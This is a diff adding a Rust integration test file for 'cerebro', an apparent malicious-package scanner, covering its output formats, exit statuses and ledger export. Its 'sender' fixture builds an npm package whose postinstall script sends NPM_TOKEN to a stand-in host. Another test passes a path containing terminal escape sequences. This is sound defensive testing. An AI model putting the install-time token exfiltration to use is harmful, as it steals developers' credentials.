@@ -1,0 +1,238 @@
+//! The real binary, as a user or a script meets it: what it prints, where, and with which exit status.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
+
+use std::fs;
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+
+use cerebro::behavior::ModelText;
+use cerebro::ledger::{Label, Labelled, Ledger};
+use cerebro::package::Ecosystem;
+use rstest::rstest;
+use serde_json::Value;
+use tempfile::TempDir;
+
+/// The binary in a folder of its own, with no settings of whoever runs the tests.
+fn cerebro(folder: &TempDir) -> Command {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_cerebro"));
+    command.current_dir(folder).env("XDG_DATA_HOME", folder.path().join("data")).stdin(Stdio::null());
+    for name in ["CEREBRO_MODEL", "CEREBRO_LEDGER", "CEREBRO_ACTOR"] {
+        command.env_remove(name);
+    }
+    command
+}
+
+fn run(folder: &TempDir, args: &[&str]) -> Output {
+    cerebro(folder).args(args).output().unwrap()
+}
+
+fn stdout(output: &Output) -> &str {
+    std::str::from_utf8(&output.stdout).unwrap()
+}
+
+fn stderr(output: &Output) -> &str {
+    std::str::from_utf8(&output.stderr).unwrap()
+}
+
+/// An error: status 2, nothing on stdout, one escaped line on stderr. Answers that line.
+fn error(output: &Output) -> &str {
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(output));
+    assert_eq!(stdout(output), "");
+    let text = stderr(output);
+    assert_eq!(text.lines().count(), 1, "{text}");
+    assert!(!text.trim_end().contains(char::is_control), "{text:?}");
+    text
+}
+
+/// A package that sends an environment variable away when it is installed.
+fn sender(folder: &TempDir, name: &str) {
+    let root = folder.path().join(name);
+    fs::create_dir_all(&root).unwrap();
+    let manifest = r#"{"name":"acme-sender","version":"1.2.3","scripts":{"postinstall":"node send.js"}}"#;
+    fs::write(root.join("package.json"), manifest).unwrap();
+    let code = "const https = require('https');\nhttps.get('https://example.com/?' + process.env.NPM_TOKEN);\n";
+    fs::write(root.join("send.js"), code).unwrap();
+}
+
+#[test]
+fn help_names_every_subcommand_and_exit_status() {
+    let folder = TempDir::new().unwrap();
+    let output = run(&folder, &["--help"]);
+    assert_eq!(output.status.code(), Some(0));
+    let help = stdout(&output);
+    for word in
+        ["scan", "sequence", "classify", "train", "eval", "export", "--model", "--device", "--ledger", "--password"]
+    {
+        assert!(help.contains(word), "{word} is missing in\n{help}");
+    }
+    let statuses = help.split("Exit status:").nth(1).unwrap();
+    for status in ["  0  ", "  1  ", "  2  ", "  3  "] {
+        assert!(statuses.contains(status), "{status} is missing in\n{statuses}");
+    }
+}
+
+#[test]
+fn nothing_to_do_is_wrong_usage() {
+    let folder = TempDir::new().unwrap();
+    let output = run(&folder, &[]);
+    assert_eq!(output.status.code(), Some(2));
+    assert!(stderr(&output).contains("Usage: cerebro"));
+}
+
+#[test]
+fn a_word_is_a_subcommand_and_the_same_with_a_dot_is_a_path() {
+    let folder = TempDir::new().unwrap();
+    assert!(stderr(&run(&folder, &["scan"])).contains("<PATH>"), "the subcommand misses its argument");
+    assert!(error(&run(&folder, &["./scan", "export"])).contains("not both"));
+}
+
+#[rstest]
+#[case::missing("missing.tgz")]
+#[case::no_archive("notes.txt")]
+#[case::damaged("half.zip")]
+fn what_is_no_package_is_one_line_that_names_it(#[case] name: &str) {
+    let folder = TempDir::new().unwrap();
+    fs::write(folder.path().join("notes.txt"), "just notes\n").unwrap();
+    fs::write(folder.path().join("half.zip"), b"PK\x03\x04\x14\0\0\0\x08\0").unwrap();
+    let output = run(&folder, &["sequence", name]);
+    assert!(error(&output).contains(name));
+}
+
+#[test]
+fn a_hostile_path_cannot_act_on_the_terminal() {
+    let folder = TempDir::new().unwrap();
+    let output = run(&folder, &["sequence", "a\u{1b}[2J\u{202e}b.tgz"]);
+    assert!(error(&output).contains("a␛[2J<U+202E>b.tgz"));
+}
+
+#[test]
+fn sequence_prints_the_promised_object() {
+    let folder = TempDir::new().unwrap();
+    sender(&folder, "scan");
+    let output = run(&folder, &["sequence", "./scan", "--format", "json"]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let document: Value = serde_json::from_str(stdout(&output)).unwrap();
+    let keys: Vec<&str> = document.as_object().unwrap().keys().map(String::as_str).collect();
+    // Sorted: serde_json's map forgets the order.
+    assert_eq!(keys, ["ecosystem", "layers", "name", "schema", "skipped", "steps", "text", "version"]);
+    assert_eq!(document["schema"], "cerebro-sequence/1");
+    assert_eq!((&document["ecosystem"], &document["name"]), (&"npm".into(), &"acme-sender".into()));
+
+    let steps = document["steps"].as_array().unwrap();
+    assert!(steps.iter().any(|step| step["feature"] == "D2"), "{steps:?}");
+    let code = fs::read_to_string(folder.path().join("scan/send.js")).unwrap();
+    for step in steps {
+        let keys: Vec<&str> = step.as_object().unwrap().keys().map(String::as_str).collect();
+        assert_eq!(keys, ["column", "detail", "entry", "feature", "file", "layer", "line", "phase", "phrase", "span"]);
+        if step["file"].as_str().unwrap().ends_with("send.js") && step["layer"].is_null() {
+            assert_eq!(step["phase"], "install");
+            let (start, end) = (step["span"][0].as_u64().unwrap() as usize, step["span"][1].as_u64().unwrap() as usize);
+            let before = &code[..start];
+            assert!(start < end && end <= code.len());
+            assert_eq!(step["line"].as_u64().unwrap() as usize, before.matches('\n').count() + 1, "{step}");
+        }
+    }
+}
+
+#[test]
+fn sequence_as_text_is_grouped_by_entry_and_shows_the_place() {
+    let folder = TempDir::new().unwrap();
+    sender(&folder, "sender");
+    let output = run(&folder, &["sequence", "sender"]);
+    let text = stdout(&output);
+    assert!(text.starts_with("acme-sender 1.2.3\n"), "{text}");
+    assert!(text.contains("\ninstall: postinstall"), "{text}");
+    assert!(text.lines().any(|line| line.contains("use network module call") && line.contains("send.js:2:")), "{text}");
+}
+
+#[test]
+fn scan_without_a_model_says_what_to_do() {
+    let folder = TempDir::new().unwrap();
+    sender(&folder, "sender");
+    let output = run(&folder, &["scan", "sender", "--model", "no-such-model"]);
+    assert!(error(&output).contains("no-such-model"));
+}
+
+/// Standard output whose reader is gone before the program starts.
+fn closed_pipe() -> Stdio {
+    let (reader, writer) = std::io::pipe().unwrap();
+    drop(reader);
+    writer.into()
+}
+
+#[rstest]
+#[case(&["sequence", "sender"])]
+#[case(&["sequence", "sender", "--format", "json"])]
+#[case(&["export", "--ledger", "ledger.sqlite"])]
+#[case(&["export", "--ledger", "ledger.sqlite", "--format", "csv"])]
+#[case(&["--help"])]
+fn a_reader_that_went_away_is_no_error(#[case] args: &[&str]) {
+    let folder = TempDir::new().unwrap();
+    sender(&folder, "sender");
+    labelled(&folder.path().join("ledger.sqlite"));
+    let output = cerebro(&folder).args(args).stdout(closed_pipe()).output().unwrap();
+    assert_eq!((output.status.code(), stderr(&output)), (Some(0), ""));
+}
+
+fn labelled(path: &Path) {
+    let mut ledger = Ledger::open(path, "ann").unwrap();
+    let decision = Labelled {
+        sha256: "00ff".to_owned(),
+        filename: "acme.tgz".to_owned(),
+        size: 9,
+        ecosystem: Ecosystem::Npm,
+        name: "@acme/demo".to_owned(),
+        version: "1.0.0".to_owned(),
+        label: Label::Malicious,
+        text: ModelText { text: "install url webhook".to_owned(), pieces: Vec::new() },
+        shown: None,
+        extractor: "1".to_owned(),
+        files: Vec::new(),
+        decode_chain: Vec::new(),
+    };
+    ledger.label(decision).unwrap();
+}
+
+#[test]
+fn export_reads_the_ledger_of_the_user_by_default() {
+    let folder = TempDir::new().unwrap();
+    labelled(&folder.path().join("data/cerebro/ledger.sqlite"));
+    let output = run(&folder, &["export"]);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let lines: Vec<Value> = stdout(&output).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    assert_eq!(lines.len(), 1);
+    assert_eq!((&lines[0]["label"], &lines[0]["label_id"]), (&"malicious".into(), &5.into()));
+}
+
+#[test]
+fn export_of_a_missing_ledger_is_an_error_and_makes_none() {
+    let folder = TempDir::new().unwrap();
+    assert!(error(&run(&folder, &["export", "--ledger", "mistyped.sqlite"])).contains("mistyped.sqlite"));
+    assert!(!folder.path().join("mistyped.sqlite").exists());
+}
+
+#[test]
+fn export_to_a_file_replaces_it_whole_or_not_at_all() {
+    let folder = TempDir::new().unwrap();
+    let ledger = folder.path().join("ledger.sqlite");
+    labelled(&ledger);
+    let args = ["export", "--ledger", "ledger.sqlite", "--out", "set.csv", "--format", "csv"];
+    let output = run(&folder, &args);
+    assert_eq!((output.status.code(), stdout(&output)), (Some(0), ""));
+    let table = fs::read_to_string(folder.path().join("set.csv")).unwrap();
+    assert!(table.lines().nth(1).unwrap().contains(",'@acme/demo,"), "{table}");
+
+    let connection = rusqlite::Connection::open(&ledger).unwrap();
+    connection.execute_batch("DROP TRIGGER event_is_never_changed; UPDATE event SET hash = 'x'").unwrap();
+    assert!(error(&run(&folder, &args)).contains("event 1"));
+    assert_eq!(fs::read_to_string(folder.path().join("set.csv")).unwrap(), table);
+    assert!(!folder.path().join("set.csv.partial").exists());
+}
+
+#[test]
+fn formulas_are_kept_only_on_request() {
+    let folder = TempDir::new().unwrap();
+    labelled(&folder.path().join("ledger.sqlite"));
+    let output = run(&folder, &["export", "--ledger", "ledger.sqlite", "--format", "csv", "--keep-formulas"]);
+    assert!(stdout(&output).lines().nth(1).unwrap().contains(",@acme/demo,"));
+}
